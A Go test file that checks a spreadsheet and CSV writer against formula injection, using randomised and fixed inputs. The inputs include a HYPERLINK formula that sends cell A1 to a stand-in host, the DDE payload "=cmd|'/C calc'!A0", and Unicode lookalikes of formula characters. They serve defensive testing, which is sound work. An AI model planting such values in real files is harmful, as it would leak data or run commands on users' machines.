package sheet_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"errors"
	"io"
	"math"
	"slices"
	"strconv"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"
	"pgregory.net/rapid"

	"tsukiichi/bot/sheet"
)

// held is the text as a file holds it: no control characters but line feed and
// tab.
func held(s string) string {
	s = strings.ReplaceAll(strings.ReplaceAll(s, "\r\n", "\n"), "\r", "\n")
	return strings.Map(func(r rune) rune {
		if r != '\n' && r != '\t' && (unicode.IsControl(r) || r == utf8.RuneError || r == 0xFFFE || r == 0xFFFF) {
			return -1
		}
		return r
	}, s)
}

// words draws what people type, and what somebody types who means harm.
func words() *rapid.Generator[string] {
	return rapid.OneOf(
		rapid.String(),
		rapid.SampledFrom([]string{
			`=HYPERLINK("http://x.invalid/?"&A1,"見て")`, "=1+1", "+1", "-1", "@SUM(A1)", "＝1+1", "＠x", "\t=1", "\r=1", "  =1", "'=1",
			"a,b;c\t\"d\"", "_x0041_", "_x0041_x0042_", "_x005F_", "_x000D_", "<b>&amp;</b>", "髙﨑 𠮷野家😀", "1行目\r\n2行目", "\x00\x1b[31m", "00123", "1e5", "2026-04-01", "TRUE", "",
		}),
		rapid.Map(rapid.String(), func(s string) string { return "=" + s }),
	)
}

func tables(t *rapid.T) []sheet.Table {
	return rapid.SliceOfN(rapid.Custom(func(t *rapid.T) sheet.Table {
		cols := rapid.IntRange(1, 4).Draw(t, "columns")
		cell := rapid.Custom(func(t *rapid.T) sheet.Cell {
			if rapid.Bool().Draw(t, "is number") {
				return sheet.Figure(rapid.Float64Range(-1e9, 1e9).Draw(t, "number"))
			}
			return sheet.Text(words().Draw(t, "text"))
		})
		tab := sheet.Table{Name: words().Draw(t, "name"), Head: rapid.SliceOfN(words(), cols, cols).Draw(t, "head")}
		tab.Rows = rapid.SliceOfN(rapid.SliceOfN(cell, 0, cols), 0, 4).Draw(t, "rows")
		if rapid.Bool().Draw(t, "has a chart") {
			tab.Charts = []sheet.Chart{{Title: words().Draw(t, "title"), Line: rapid.Bool().Draw(t, "line"), Series: []int{cols - 1}}}
		}
		return tab
	}), 1, 3).Draw(t, "tables")
}

// TestNoLiveFormula writes whatever people may type and opens it again: every
// text is the text that went in, none is a formula.
func TestNoLiveFormula(t *testing.T) {
	t.Parallel()
	rapid.Check(t, func(t *rapid.T) {
		in := tables(t)
		file, err := sheet.Write(in)
		if err != nil {
			t.Fatal(err)
		}
		f, err := excelize.OpenReader(bytes.NewReader(file))
		if err != nil {
			t.Fatal(err)
		}
		defer func() { _ = f.Close() }()
		if len(f.GetSheetList()) != len(in) {
			t.Fatalf("%d sheets of %d tables", len(f.GetSheetList()), len(in))
		}
		for i, name := range f.GetSheetList() {
			compare(t, f, name, 0, sheet.Texts(in[i].Head...))
			for row, cells := range in[i].Rows {
				compare(t, f, name, row+1, figuresWhereDrawn(in[i], cells))
			}
		}
		wellFormed(t, file)
	})
}

// figuresWhereDrawn is the row without the texts that stand where a chart draws.
func figuresWhereDrawn(t sheet.Table, row []sheet.Cell) []sheet.Cell {
	row = slices.Clone(row)
	for _, c := range t.Charts {
		for _, col := range c.Series {
			if col < len(row) && row[col].Number == nil {
				row[col] = sheet.Text("")
			}
		}
	}
	return row
}

func compare(t *rapid.T, f *excelize.File, name string, row int, cells []sheet.Cell) {
	for col, want := range cells {
		at, err := excelize.CoordinatesToCellName(col+1, row+1)
		if err != nil {
			t.Fatal(err)
		}
		got, err := f.GetCellValue(name, at, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		if formula, err := f.GetCellFormula(name, at); err != nil || formula != "" {
			t.Fatalf("%s is a formula: %q %v", at, formula, err)
		}
		if want.Number != nil {
			if n, err := strconv.ParseFloat(got, 64); err != nil || n != *want.Number {
				t.Fatalf("%s: got %q, want %v", at, got, *want.Number)
			}
			continue
		}
		if got != held(want.Text) {
			t.Fatalf("%s: got %q, want %q", at, got, held(want.Text))
		}
		if kind, err := f.GetCellType(name, at); err != nil || (got != "" && kind != excelize.CellTypeSharedString) {
			t.Fatalf("%s is of the type %d: %v", at, kind, err)
		}
	}
}

// wellFormed wants every part of the workbook to be XML that a strict reader
// takes, and none to hold a formula or a program.
func wellFormed(t interface{ Fatalf(string, ...any) }, file []byte) {
	z, err := zip.NewReader(bytes.NewReader(file), int64(len(file)))
	if err != nil {
		t.Fatalf("%v", err)
	}
	for _, part := range z.File {
		r, err := part.Open()
		if err != nil {
			t.Fatalf("%s: %v", part.Name, err)
		}
		if strings.Contains(strings.ToLower(part.Name), "vba") {
			t.Fatalf("%s is in the workbook", part.Name)
		}
		dec := xml.NewDecoder(r)
		for {
			tok, err := dec.Token()
			if errors.Is(err, io.EOF) {
				break
			}
			if err != nil {
				t.Fatalf("%s: %v", part.Name, err)
			}
			if el, ok := tok.(xml.StartElement); ok && el.Name.Local == "f" && strings.Contains(part.Name, "worksheets/sheet") {
				t.Fatalf("%s holds a formula", part.Name)
			}
		}
		_ = r.Close()
	}
}

// TestCSV opens what was written again: text in quotes, what looks like a
// formula begins with an apostrophe.
func TestCSV(t *testing.T) {
	t.Parallel()
	rapid.Check(t, func(t *rapid.T) {
		in := tables(t)[0]
		raw, bom := bytes.CutPrefix(sheet.CSV(in), []byte("\xEF\xBB\xBF"))
		if !bom || !utf8.Valid(raw) {
			t.Fatal("no byte order mark, or no UTF-8")
		}
		r := csv.NewReader(bytes.NewReader(raw))
		r.FieldsPerRecord = -1
		rows, err := r.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		want := append([][]sheet.Cell{sheet.Texts(in.Head...)}, in.Rows...)
		want = rapidNotEmpty(want)
		if len(rows) != len(want) {
			t.Fatalf("%d lines of %d", len(rows), len(want))
		}
		for i, row := range rows {
			for j, got := range row {
				if c := want[i][j]; c.Number != nil {
					if n, err := strconv.ParseFloat(got, 64); err != nil || n != *c.Number {
						t.Fatalf("got %q, want %v", got, *c.Number)
					}
				} else if text := held(c.Text); got != text && got != "'"+text {
					t.Fatalf("got %q, want %q", got, text)
				} else if first := strings.TrimSpace(got); first != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(first)[0]) {
					t.Fatalf("%q is live", got)
				}
			}
		}
	})
}

// TestCSVDisarms lists what spreadsheets have been seen to take for formulas.
func TestCSVDisarms(t *testing.T) {
	t.Parallel()
	for text, live := range map[string]bool{
		"=1+1": true, "+1": true, "-1": true, "@SUM(A1)": true, "\t=1": true, "\r=1": true, "\n=1": true,
		"=cmd|'/C calc'!A0": true, " =1": true, "　＝1": true, "＝1": true, "＋1": true, "－1": true, "＠1": true,
		"﹦1": true, "﹢1": true, "﹣1": true, "﹫1": true, "−1": true,
		"\u200b=1": true, "\ufeff=1": true, "\u00ad=1": true, "\u202e=1": true,
		"": false, "1+1": false, "話せた=よかった": false, "・-": false, "ー": false, "'=1": false,
	} {
		want := `"` + strings.ReplaceAll(strings.ReplaceAll(text, "\r", "\n"), `"`, `""`) + `"`
		if live {
			want = `"'` + want[1:]
		}
		if got := string(sheet.CSV(sheet.Table{Head: []string{text}})); got != "\ufeff"+want+"\r\n" {
			t.Errorf("%q becomes %q, want %q", text, got, want)
		}
	}
}

// rapidNotEmpty leaves out rows without a cell: a line of nothing is no line.
func rapidNotEmpty(rows [][]sheet.Cell) (out [][]sheet.Cell) {
	for _, r := range rows {
		if len(r) > 0 {
			out = append(out, r)
		}
	}
	return out
}

func TestWriteRefuses(t *testing.T) {
	t.Parallel()
	nan := math.NaN()
	for name, c := range map[string]struct {
		tables []sheet.Table
		want   error
	}{
		"nothing":      {nil, sheet.ErrNoTable},
		"not a number": {[]sheet.Table{{Name: "a", Rows: [][]sheet.Cell{{{Number: &nan}}}}}, sheet.ErrNoFigure},
		"too long":     {[]sheet.Table{{Name: "a", Rows: [][]sheet.Cell{sheet.Texts(strings.Repeat("あ", 20_000))}}}, sheet.ErrTooLong},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			if _, err := sheet.Write(c.tables); !errors.Is(err, c.want) {
				t.Errorf("got %v, want %v", err, c.want)
			}
		})
	}
}

func TestSheetNames(t *testing.T) {
	t.Parallel()
	long := strings.Repeat("長", 40)
	file, err := sheet.Write([]sheet.Table{
		{Name: "月/部: [表]"}, {Name: ""}, {Name: "sheet"}, {Name: long}, {Name: long}, {Name: "'x'"}, {Name: "History"},
	})
	if err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(file))
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = f.Close() }()
	want := []string{"月 部   表", "Sheet", "sheet 2", long[:31*3], long[:29*3] + " 2", "x", "Sheet 3"}
	if diff := cmp.Diff(want, f.GetSheetList()); diff != "" {
		t.Error(diff)
	}
}

// TestChart wants the chart's figures to be those of its table.
func TestChart(t *testing.T) {
	t.Parallel()
	file, err := sheet.Write([]sheet.Table{{
		Name: "月 別", Head: []string{"月", "済", "未"},
		Rows:   [][]sheet.Cell{{sheet.Text("4月"), sheet.Count(3), sheet.Count(1)}, {sheet.Text("5月"), sheet.Text("–"), sheet.Count(0)}},
		Charts: []sheet.Chart{{Title: "月ごとの面談", Line: true, Series: []int{1, 2}}},
	}})
	if err != nil {
		t.Fatal(err)
	}
	wellFormed(t, file)
	z, err := zip.NewReader(bytes.NewReader(file), int64(len(file)))
	if err != nil {
		t.Fatal(err)
	}
	r, err := z.Open("xl/charts/chart1.xml")
	if err != nil {
		t.Fatal(err)
	}
	raw, err := io.ReadAll(r)
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"月ごとの面談", "&#39;月 別&#39;!$B$1", "&#39;月 別&#39;!$A$2:$A$3", "&#39;月 別&#39;!$C$2:$C$3", "lineChart"} {
		if !strings.Contains(string(raw), want) {
			t.Errorf("the chart does not say %s", want)
		}
	}
	f, err := excelize.OpenReader(bytes.NewReader(file))
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = f.Close() }()
	if got, err := f.GetCellValue("月 別", "B3"); err != nil || got != "" {
		t.Errorf("a figure that is withheld is %q there, and drawn as nought (%v)", got, err)
	}
}
